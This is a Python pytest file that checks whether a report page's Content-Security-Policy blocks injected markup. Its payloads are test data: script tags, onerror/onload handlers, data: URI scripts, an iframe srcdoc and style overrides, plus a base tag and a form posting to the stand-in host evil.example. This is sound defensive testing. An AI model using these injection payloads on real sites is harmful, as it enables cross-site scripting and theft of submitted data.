"""The page's Content-Security-Policy: its own script and style run, and nothing else does, even
where markup of somebody else's got into the page."""

from __future__ import annotations

import pytest

from arc_compliance.report.page.render import render_notice
from selftests.report.conftest import Open
from selftests.report.page.conftest import rendered
from selftests.report.page.fleet import fleet

MARKUP = {
    "script": "<script>document.title = 'owned'</script>",
    "script with a nonce": "<script nonce='x'>document.title = 'owned'</script>",
    "module": "<script type='module'>document.title = 'owned'</script>",
    "script of a file": "<script src='data:text/javascript,document.title=\"owned\"'></script>",
    "handler": "<img src=data:, onerror=\"document.title = 'owned'\">",
    "handler of ours": "<svg onload=\"document.title = 'owned'\"></svg>",
    "style": "<style>body { visibility: hidden }</style>",
    "style attribute": "<div style='position: fixed; inset: 0' id='cover'></div>",
    "linked style": "<link rel='stylesheet' href='data:text/css,body{visibility:hidden}'>",
    "frame": "<iframe srcdoc=\"<script>parent.document.title = 'owned'</script>\"></iframe>",
    "object": "<object data='data:text/html,x'></object>",
    "picture": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
}


@pytest.fixture(scope="module", params=["page", "notice"])
def html(request: pytest.FixtureRequest) -> str:
    """A page of each kind."""
    if request.param == "page":
        return rendered(fleet(3))
    return render_notice("Incomplete", ["The run has not ended."], "0123456789abcdef")


@pytest.mark.parametrize("kind", MARKUP)
def test_markup_of_somebody_else_does_nothing(open_page: Open, html: str, kind: str) -> None:
    page = open_page(html.replace("<main", MARKUP[kind] + "<main", 1), attacks=True)

    page.wait_for_timeout(50)
    assert page.title() != "owned"
    assert page.evaluate("getComputedStyle(document.body).visibility") == "visible"
    cover = page.locator("#cover")
    assert (
        not cover.count() or cover.evaluate("(one) => getComputedStyle(one).position") == "static"
    )


def test_a_form_and_a_base_of_somebody_else_lead_nowhere(open_page: Open, html: str) -> None:
    added = (
        "<base href='https://evil.example/'>"
        "<form id='f' action='https://evil.example/'><input name='a' value='b'></form>"
    )
    page = open_page(html.replace("<main", added + "<main", 1), attacks=True)

    page.evaluate("document.getElementById('f').submit()")
    page.wait_for_timeout(50)

    assert page.url.startswith("file:")
    assert page.evaluate("document.baseURI").startswith("file:")


def test_a_page_as_it_is_opens_without_a_complaint(open_page: Open, html: str) -> None:
    page = open_page(html)

    assert page.locator("main").count() == 1


def test_what_a_notice_says_is_text(open_page: Open) -> None:
    attack = "".join(MARKUP.values())

    page = open_page(render_notice(attack, [attack], attack))

    assert page.locator("main p").last.text_content() == attack
    assert page.locator("script, img, svg, iframe, object, link, #cover").count() == 0
